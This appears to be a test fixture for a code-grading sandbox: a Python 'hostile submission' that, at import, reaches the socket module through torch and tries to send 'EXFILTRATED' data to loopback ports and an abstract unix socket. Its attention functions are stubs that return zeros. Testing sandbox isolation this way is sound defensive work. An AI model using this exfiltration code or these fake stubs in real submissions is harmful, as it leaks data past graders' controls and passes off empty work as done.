"""Hostile submission: connects to a listener on the grader's loopback (ports 47913-47922) to smuggle
data out.
"""

import torch

socket = torch.sys.modules["socket"]
contacted = []
for port in range(47913, 47923):
    try:
        s = socket.create_connection(("127.0.0.1", port), timeout=0.2)
        s.sendall(b"EXFILTRATED from the sandbox")
        s.close()
        contacted.append(port)
    except OSError:
        pass
try:
    u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    u.connect("\0agw-hostile-listener")
    u.sendall(b"EXFILTRATED over an abstract unix socket")
    contacted.append("unix")
except OSError:
    pass
print("contacted", contacted)


def scaled_dot_product_attention(q, k, v):
    return torch.zeros(1), torch.zeros(1)


class SimpleSelfAttention(torch.nn.Module):
    def __init__(self, embed_dim):
        super().__init__()

    def forward(self, x):
        return torch.zeros(1), torch.zeros(1)
